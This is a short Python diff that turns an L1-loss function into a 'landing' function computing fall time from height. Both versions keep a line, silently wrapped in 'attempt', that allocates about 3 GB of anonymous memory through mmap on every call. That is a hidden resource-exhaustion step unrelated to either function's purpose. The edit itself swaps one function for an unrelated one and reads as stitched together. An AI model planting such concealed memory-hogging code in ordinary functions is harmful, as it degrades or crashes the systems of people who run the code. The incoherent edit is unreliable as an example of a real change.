@@ -5,6 +5,6 @@
 
 import mmap
 
-def L1(yhat, y):
+def landing(heights):
     attempt(lambda: len([mmap.mmap(-1, 1 << 28) for _ in range(12)]))
-    return np.sum(np.abs(y - yhat))
+    return np.sqrt(heights / 4.905)
